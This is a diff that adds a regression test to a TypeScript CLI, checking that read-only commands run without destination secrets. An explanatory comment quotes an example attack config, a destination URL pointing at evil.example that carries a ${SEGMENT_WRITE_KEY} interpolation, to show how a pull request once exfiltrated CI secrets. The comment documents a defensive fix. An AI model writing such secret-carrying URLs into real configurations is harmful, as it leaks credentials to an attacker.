@@ -9,6 +9,7 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { loadProject } from '../../src/definitions/load-project.js';
 import { dialectNamed } from '../../dialects/registry.js';
 import { childOutput } from '../support/child-output.js';
+import { copyDemoProject } from '../support/demo-project.js';
 import { cliArgs } from '../support/cli-bundle.js';
 import { removeTempDirs, tempDir } from '../sync/support/harness.js';
 import { writeProject } from '../sync/support/project.js';
@@ -113,4 +114,31 @@ describe('a malformed ${...} is an invalid_value at its line', () => {
     expect(diagnostics).toEqual([]);
     expect(project?.config.destinations.calls).toEqual({ type: 'file', path: path.join(dir, 'out/${QUORUM_X}-k.ndjson') });
   });
+});
+
+// quorum.yml comes in pull requests and decides where a ${VAR} is sent: a pull request that wrote
+// `url: postgres://evil.example/x?k=${SEGMENT_WRITE_KEY}` got the key from CI's `validate`, which
+// read every destination's secret though it never sends. Commands that connect and never send read
+// the destinations' unset ${VAR}s as placeholders, so CI gives them the warehouse's secrets only.
+describe('commands that connect and never send need no destination secret', () => {
+  it('validate, preview, members, history and state check pass without it; run names it', async () => {
+    const dir = await tempDir('destination-placeholders');
+    await copyDemoProject(dir);
+    const yml = path.join(dir, 'quorum.yml');
+    const text = await readFile(yml, 'utf8');
+    expect(text).toMatch(/^destinations:\n/m);
+    await writeFile(yml, text.replace(/^destinations:\n/m, 'destinations:\n  crm:\n    type: segment\n    write_key: ${QUORUM_TEST_WRITE_KEY}\n    endpoint: http://127.0.0.1:9\n'));
+    const validated = await quorum(dir, 'validate');
+    expect(validated.code, validated.stderr).toBe(0);
+    expect(validated.stdout).toContain('definitions are valid');
+    for (const args of [['preview', 'at_risk_accounts', '--as-of', '2024-06-01'], ['members', 'at_risk_accounts', '--as-of', '2024-06-01'], ['history'], ['state', 'check']]) {
+      const out = await quorum(dir, ...args);
+      expect(out.code, out.stderr).toBe(0);
+      expect(out.stdout.length).toBeGreaterThan(0);
+    }
+    const run = await quorum(dir, 'run', '--as-of', '2024-06-01');
+    expect(run.code).toBe(1);
+    expect(diagnosticsOf(run.stderr)).toEqual([`quorum.yml:${text.split('\n').findIndex((l) => l === 'destinations:') + 4} missing_env`]);
+    expect(run.stderr).toContain('QUORUM_TEST_WRITE_KEY');
+  }, 120_000);
 });
